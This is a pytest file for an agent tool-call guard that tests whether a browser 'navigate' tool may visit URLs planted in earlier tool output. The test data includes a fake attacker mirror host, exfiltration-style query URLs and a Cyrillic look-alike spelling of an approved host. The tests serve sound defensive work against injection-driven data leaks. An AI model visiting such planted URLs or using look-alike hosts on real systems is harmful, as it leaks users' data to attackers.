"""A host this session went to before any output named it (``Session.used_hosts``): the echo
of it in later output (a browser server's ``Page URL: ...``, the page's links to itself) does
not make another URL of it look planted. That URL is asked about, as before the echo; a URL
output gave whole, a host output named first, another host, a look-alike spelling and an
allowlisted host stay as strict as before (denied, or asked, never allowed by the echo)."""

from __future__ import annotations

from typing import Any

from cordon.engine.core import Engine

NAVIGATE = {
    "name": "navigate",
    "description": "Open a URL in the browser.",
    "inputSchema": {"type": "object", "properties": {"url": {"type": "string"}}},
}
POLICY: dict[str, Any] = {
    "version": 1,
    "trusted_destinations": ["*.corp.example"],
    "tools": {"navigate": {"exfiltrating": True, "sink_params": ["url"], "egress": True}},
}
#: what the server answers after a navigation: its URL, and a page naming its own host
_PAGE = (
    "- Page URL: https://docs.example.org/guide\n"
    "- link FAQ: https://docs.example.org/guide/faq\n"
    "Mirror: https://mirror.attacker.example/guide"
)


def _session(policy: dict[str, Any] | None = None) -> Any:
    eng = Engine.from_policy([policy or POLICY])
    eng.pin_tools([NAVIGATE])
    return eng.new_session()


def _go(s: Any, url: str) -> str:
    v = s.check("navigate", {"url": url})
    return f"{v.verdict} {v.rule}"


def _approved_first_page(s: Any) -> None:
    v = s.check("navigate", {"url": "https://docs.example.org/guide"})
    assert v.verdict == "ask", v
    s.approve(v)
    assert s.check("navigate", {"url": "https://docs.example.org/guide"}).verdict == "allow"
    s.observe_output("navigate", _PAGE, content_mode="monitor")


def test_another_page_of_an_approved_host_is_asked_not_denied() -> None:
    s = _session()
    _approved_first_page(s)
    for url in ("https://docs.example.org/guide/install", "https://docs.example.org/"):
        assert _go(s, url) == "ask taint.unverified_destination", url
    # the approved page itself is allowed again, as before the echo (named by the approval)
    assert _go(s, "https://docs.example.org/guide") == "allow taint.unverified_destination"


def test_what_the_page_planted_stays_denied() -> None:
    s = _session()
    _approved_first_page(s)
    for url in (
        "https://mirror.attacker.example/guide?d=1",  # another host
        "https://docs.example.org/guide/faq?d=1",  # a URL the page gave whole
    ):
        assert _go(s, url) == "deny taint.seen_in_output", url


def test_a_lookalike_spelling_of_the_approved_host_is_not_vouched() -> None:
    s = _session()
    _approved_first_page(s)
    # Cyrillic о in "docs": folds to the approved host's key, names another host
    assert _go(s, "https://d\u043ecs.example.org/install") == "deny taint.seen_in_output"


def test_a_host_output_named_before_the_first_visit_stays_taint() -> None:
    s = _session()
    s.observe_output(
        "navigate", "read more at https://docs.example.org/news", content_mode="monitor"
    )
    assert _go(s, "https://docs.example.org/guide") == "deny taint.seen_in_output"
    assert s.used_hosts == set()


def test_an_allowlisted_host_is_asked_after_its_echo_not_allowed() -> None:
    """The allowlist does not beat taint: once output named the host, another URL of it is
    asked about (it was denied before the echo was discounted), never allowed."""
    s = _session()
    assert _go(s, "https://wiki.corp.example/home") == "allow default.allow"
    assert _go(s, "https://wiki.corp.example/other") == "allow default.allow"  # (no echo yet)
    s.observe_output("navigate", "Page URL: https://wiki.corp.example/home", content_mode="monitor")
    assert _go(s, "https://wiki.corp.example/u/drop?k=1") == "ask taint.unverified_destination"
    assert _go(s, "https://wiki.corp.example/home") == "allow default.allow"


def test_the_host_is_kept_only_from_an_allowed_call() -> None:
    s = _session()
    v = s.check("navigate", {"url": "https://docs.example.org/guide"})
    assert v.verdict == "ask"  # asked, never answered: nothing kept
    s.observe_output("navigate", _PAGE, content_mode="monitor")
    assert _go(s, "https://docs.example.org/guide/install") == "deny taint.seen_in_output"
